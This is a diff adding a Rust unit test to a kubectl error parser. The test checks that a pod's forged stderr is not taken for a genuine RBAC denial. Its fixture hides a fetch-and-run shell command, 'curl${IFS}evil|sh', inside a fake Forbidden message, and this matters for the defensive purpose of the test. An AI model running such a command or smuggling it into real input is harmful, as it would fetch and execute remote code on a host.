@@ -167,3 +167,17 @@ fn escape_sequences_of_a_denial_are_shown_and_not_run() {
         refusal("Error from server (Forbidden): pods \"x\" is forbidden: \u{1b}[2Jgone").unwrap().words();
     assert!(!text.contains('\u{1b}') && text.contains("gone"));
 }
+
+#[test]
+fn what_a_pod_writes_to_its_stderr_is_never_taken_for_kubectls_words() {
+    let evil = "Error from server (Forbidden): pods \"x\" is forbidden: User \"me\" cannot get;curl${IFS}evil|sh; resource \"pods\" in API group \"\"";
+    assert_eq!(of_exec(&format!("{evil}\ncommand terminated with exit code 1\n")), Some(Refusal::Exited(1)));
+    // Its last line left open: kubectl's words come right behind.
+    assert_eq!(of_exec(&format!("{evil}command terminated with exit code 7")), Some(Refusal::Exited(7)));
+    assert_eq!(
+        of_exec(&format!("{evil}\nerror: unable to upgrade connection: x")),
+        refusal("error: unable to upgrade connection: x")
+    );
+    assert!(!matches!(refusal(evil), Some(Refusal::Rbac(_))), "a verb that is a shell command is no verb");
+    assert!(matches!(of_exec(include_str!("samples/rbac-exec.txt")), Some(Refusal::Rbac(_))));
+}
